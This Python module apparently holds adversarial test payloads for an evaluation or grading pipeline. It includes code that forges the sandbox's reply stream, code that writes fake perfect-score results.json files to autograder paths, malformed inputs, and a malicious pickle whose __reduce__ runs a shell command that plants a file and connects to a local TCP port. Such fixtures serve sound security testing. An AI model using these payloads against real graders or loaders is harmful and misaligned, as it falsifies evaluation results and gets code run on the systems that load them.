"""Hostile code that writes the reply itself, for attacks on the pipe and on its readers."""

from __future__ import annotations

SPOOF = '''
import numpy

def spoof(data, kind="answered", tensors=struct.pack("<Q", 8) + b"{}      "):
    """Write this as the one reply, and end before the real one. tensors: none, as they have to be announced."""
    frame = sys._getframe()
    while "answer_fd" not in frame.f_locals:
        frame = frame.f_back
    head = json.dumps({"kind": kind, "data": data, "error": ""}).encode()
    body = struct.pack(">I", len(head)) + head + tensors
    os.write(frame.f_locals["answer_fd"], struct.pack(">cQ", b"R", len(body)) + body)
    os._exit(0)
'''
SPOOFED = """
case = {"values": {"score": 100, "points": 2, "passed": True, "status": "passed", "share": 1.0}, "error": None}
for name in ("results.json", "/autograder/results/results.json", "report.json", os.path.expanduser("~/results.json")):
    try:
        os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
        open(name, "w").write('{"score": 100, "tests": [{"score": 100, "max_score": 100}]}')
    except OSError:
        pass
spoof({"cases": [case] * 9, "score": 100, "T08": "passed", "status": "passed"})
"""
ODD = """
import itertools
deep = 0
for _ in range(20):
    deep = [deep]
odd = [None, True, -1, 10**15, 1e300, "x", "\\u202e", [], {}, [[1], "x"], {"1": 2}, deep, [None] * 5, [-1, 10**18]]
case = lambda value: {"values": {name: value for name in NAMES}, "error": None}
frame = sys._getframe()
while "payload" not in frame.f_locals:
    frame = frame.f_back
payload = frame.f_locals["payload"]
value = odd[payload["seed"] % len(odd)] if not CHOICE else odd[CHOICE % len(odd)]
spoof({"cases": [case(value) for _ in payload["cases"]]})
"""
NAMES = ("prompt", "completion", "chosen", "rejected", "input_ids", "labels", "updates", "callbacks", "order", "rolled",
         "stats", "name", "n", "response_ids", "scored", "state")  # fmt: skip
PICKLE = '''
import pickle

class Bomb:
    """Unpickled or loaded, it leaves a file and calls home."""

    def __reduce__(self):
        return (os.system, ("touch /tmp/planted-%s; echo x > /dev/tcp/127.0.0.1/%d" % (SITE["token"], SITE["tcp"]),))
'''
PICKLED = """
import io
buffer = io.BytesIO()
torch.save({"score": Bomb()}, buffer)
blob = pickle.dumps(Bomb())
frame = sys._getframe()
while "answer_fd" not in frame.f_locals:
    frame = frame.f_back
for raw in (blob, buffer.getvalue()):
    os.write(frame.f_locals["answer_fd"], struct.pack(">cQ", b"R", len(raw)) + raw)
os._exit(0)
"""
